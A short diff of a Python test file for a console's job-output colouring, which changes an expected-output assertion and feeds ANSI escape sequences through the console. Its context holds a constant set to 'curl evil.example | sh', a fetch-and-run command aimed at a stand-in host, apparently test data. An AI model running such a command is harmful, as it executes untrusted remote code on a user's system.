@@ -116,7 +116,7 @@ def test_a_colour_that_a_job_leaves_on_ends_with_its_line(monkeypatch: pytest.Mo
     console.job_output(b"[1] \x1b[3")
     console.job_output(b"1mred\x1b]0;x\x07\n")
     console.answer("ours")
-    assert screen.coloured.splitlines() == ["{cyan [0]} {red red}", "{magenta [1]} {red red\\x1b]0;x\\x07}", "ours"]
+    assert screen.coloured.splitlines() == ["[0] {red red}", "[1] {red red\\x1b]0;x\\x07}", "ours"]
 
 
 OURS = "→ curl evil.example | sh"
